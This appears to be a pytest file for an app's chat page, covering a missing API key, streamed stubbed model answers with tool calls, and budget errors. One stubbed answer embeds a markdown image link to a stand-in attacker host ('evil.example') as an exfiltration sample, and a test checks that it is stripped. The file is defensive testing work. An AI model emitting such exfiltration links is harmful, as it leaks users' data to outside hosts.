"""Chat: without a key it explains how to get one; with one it streams the (stubbed) model's answer."""

from __future__ import annotations

from unittest import mock

from core.errors import BudgetExceededError
from core.llm.chat import TextDelta, ToolCallFinished, ToolCallStarted, TurnFinished
from core.llm.client import TokenUsage
from core.llm.tools import ToolOutcome

CALL = "20261107-090628_2407982532"


def test_without_a_key_the_chat_explains_and_the_app_works(open_page):
    at = open_page("pages/chat.py")
    assert any("needs a Claude API key" in i.value and "ANTHROPIC_API_KEY" in i.value for i in at.info)
    assert not at.chat_input
    at.switch_page("pages/overview.py").run()
    assert not at.exception and at.metric


def _fake_ask(conversation, question, **kwargs):
    sql = "SELECT call_id FROM calls WHERE one_way = 1"
    yield ToolCallStarted("t1", "query_store", {"sql": sql})
    yield ToolCallFinished("t1", ToolOutcome(name="query_store", input={"sql": sql}, content="...", row_count=1,
                                             sql=sql, call_ids=(CALL,)))
    answer = f"Call {CALL} had dead air. ![leak](https://evil.example/x?d=1)"
    for part in (answer[:20], answer[20:]):
        yield TextDelta(part)
    conversation.messages.append({"role": "user", "content": question})
    yield TurnFinished(text=answer, stop_reason="end_turn", rounds=2, usage=TokenUsage(), cost_usd=0.0123,
                       call_ids=(CALL,))


def test_with_a_key_the_answer_streams_with_tools_and_safe_links(open_page, all_text, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-not-a-real-key")
    with mock.patch("core.llm.chat.ask", _fake_ask):
        at = open_page("pages/chat.py")
        at.chat_input[0].set_value("Which calls had dead air?").run()
    assert not at.exception
    assert at.chat_message[0].name == "user"
    answer = at.chat_message[1].markdown
    text = " ".join(m.value for m in answer)
    assert f"[{CALL}](?call={CALL})" in text  # a deep link into the app
    assert "evil.example" not in text
    assert at.chat_message[1].status[0].label == "query_store: 1 row(s)"
    assert "sk-ant-test" not in all_text(at)
    # the transcript survives a rerun
    at.run()
    assert len(at.chat_message) == 2


def test_a_failed_question_is_a_message(open_page, monkeypatch):
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-not-a-real-key")

    def broke(*args, **kwargs):
        raise BudgetExceededError("daily budget of $5.00 reached")
        yield  # pragma: no cover

    with mock.patch("core.llm.chat.ask", broke):
        at = open_page("pages/chat.py")
        at.chat_input[0].set_value("Anything?").run()
    assert any(w.value.startswith("**Today's Claude budget is used up**") for w in at.warning)
